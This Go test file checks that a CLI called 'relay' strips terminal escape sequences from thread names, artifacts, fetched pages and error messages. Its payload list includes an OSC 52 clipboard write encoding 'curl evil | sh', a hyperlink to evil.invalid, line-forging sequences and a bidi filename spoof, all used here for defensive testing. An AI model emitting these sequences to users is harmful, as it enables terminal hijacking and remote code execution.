package attack

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// terminalPayloads are escape sequences a hostile thread, artifact, answer
// or web page carries to reach the user's terminal: set the window title,
// write the clipboard (OSC 52), hide or rewrite lines, or start the same
// sequences in their 8-bit (C1) form.
var terminalPayloads = map[string]string{
	"osc0 title":       "\x1b]0;owned\x07",
	"osc52 clipboard":  "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
	"osc8 hyperlink":   "\x1b]8;;https://evil.invalid/\x1b\\ok\x1b]8;;\x1b\\",
	"csi clear screen": "\x1b[2J\x1b[H",
	"csi conceal":      "\x1b[8m",
	"cursor up erase":  "\x1b[1A\x1b[2K",
	"c1 csi":           "\u009b2J",
	"c1 osc":           "\u009d0;owned\u009c",
	"bell":             "\x07",
	"backspaces":       "\x08\x08\x08",
	"lone cr":          "\rforged",
	"bidi override":    "\u202etxt.exe",
}

// TestTerminalEscapesInMemoryOutput puts every payload into thread names,
// artifact names, artifact contents and a fetched page (its URL path and
// body), then runs each human-readable memory command with stdout on a
// terminal: nothing the terminal would act on may reach it. --json and
// --out FILE still give the exact bytes.
func TestTerminalEscapesInMemoryOutput(t *testing.T) {
	s := newSandbox(t)
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		for _, p := range terminalPayloads {
			fmt.Fprintf(w, "line %s end\n", p)
		}
	}))
	defer page.Close()
	d := startDaemon(t, s, "RELAY_FETCH_ALLOW=127.0.0.1/32")
	tid := d.NewThread(t, "thread"+terminalPayloads["osc0 title"])
	i := 0
	for name, p := range terminalPayloads {
		i++
		file := filepath.Join(t.TempDir(), fmt.Sprintf("a%d.txt", i))
		if err := os.WriteFile(file, []byte("content "+p+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		artName := "name-" + p
		if strings.ContainsAny(p, "\r") {
			artName = "name-cr" // names are one line; the content carries it
		}
		if r := s.Run("", "artifact", "put", file, "--thread", tid, "--name", artName); r.Code != 0 {
			t.Fatalf("%s: artifact put: %s", name, r)
		}
	}
	// the fetched URL's path is decoded into the artifact name
	fetchArgs := fmt.Sprintf(`{"url": "%s/%%1b]0;owned%%07/%%1b]52;c;eA==%%07"}`, page.URL)

	for _, args := range [][]string{
		{"runs"},
		{"show", tid},
		{"artifact", "ls", "--thread", tid},
		{"tail", tid, "--no-follow"},
		{"cap", "invoke", "http.fetch", "--thread", tid, "--json", fetchArgs, "--no-cache"},
		{"artifact", "ls", "--thread", tid},
	} {
		r := s.RunTTY(args...)
		if r.Code != 0 {
			t.Fatalf("relay %s: %s", strings.Join(args, " "), r)
		}
		terminalSafe(t, "relay "+strings.Join(args, " "), r.Stdout)
	}

	// every artifact's metadata, preview and full content (--out -) on a terminal
	var list struct {
		Artifacts []struct {
			Ref string `json:"ref"`
		} `json:"artifacts"`
	}
	if st := d.JSON(t, "GET", "/threads/"+tid+"/artifacts", nil, &list); st != 200 || len(list.Artifacts) < len(terminalPayloads) {
		t.Fatalf("list artifacts: status %d, %d artifacts", st, len(list.Artifacts))
	}
	for _, a := range list.Artifacts {
		for _, args := range [][]string{{"artifact", "get", a.Ref, "--thread", tid}, {"artifact", "get", a.Ref, "--thread", tid, "--out", "-"}} {
			r := s.RunTTY(args...)
			if r.Code != 0 {
				t.Fatalf("relay %s: %s", strings.Join(args, " "), r)
			}
			terminalSafe(t, "relay "+strings.Join(args, " "), r.Stdout)
		}
	}

	// raw bytes stay available: --out FILE and --json are exact
	out := filepath.Join(t.TempDir(), "exact")
	ref := list.Artifacts[0].Ref
	if r := s.Run("", "artifact", "get", ref, "--thread", tid, "--out", out); r.Code != 0 {
		t.Fatalf("artifact get --out: %s", r)
	}
	b, _ := os.ReadFile(out)
	if !strings.ContainsAny(string(b), "\x1b\x07\x08\r\u009b\u009d\u202e") {
		t.Fatalf("--out lost the exact bytes: %q", b)
	}
	if r := s.RunTTY("artifact", "ls", "--thread", tid, "--json"); r.Code != 0 || !strings.Contains(r.Stdout, `\u001b]0;owned\u0007`) {
		t.Fatalf("--json must carry the exact names (JSON-escaped): %s", r)
	}
}

// TestTerminalEscapesInErrors: an error message that quotes hostile input
// (a thread name given on the command line, a project file name) reaches a
// terminal escaped too.
func TestTerminalEscapesInErrors(t *testing.T) {
	s := newSandbox(t)
	startDaemon(t, s)
	for name, p := range terminalPayloads {
		r := s.RunTTY("show", "nosuch"+p)
		if r.Code == 0 {
			t.Fatalf("%s: show of a missing thread succeeded", name)
		}
		terminalSafe(t, "error for "+name, r.Stdout)
	}
}
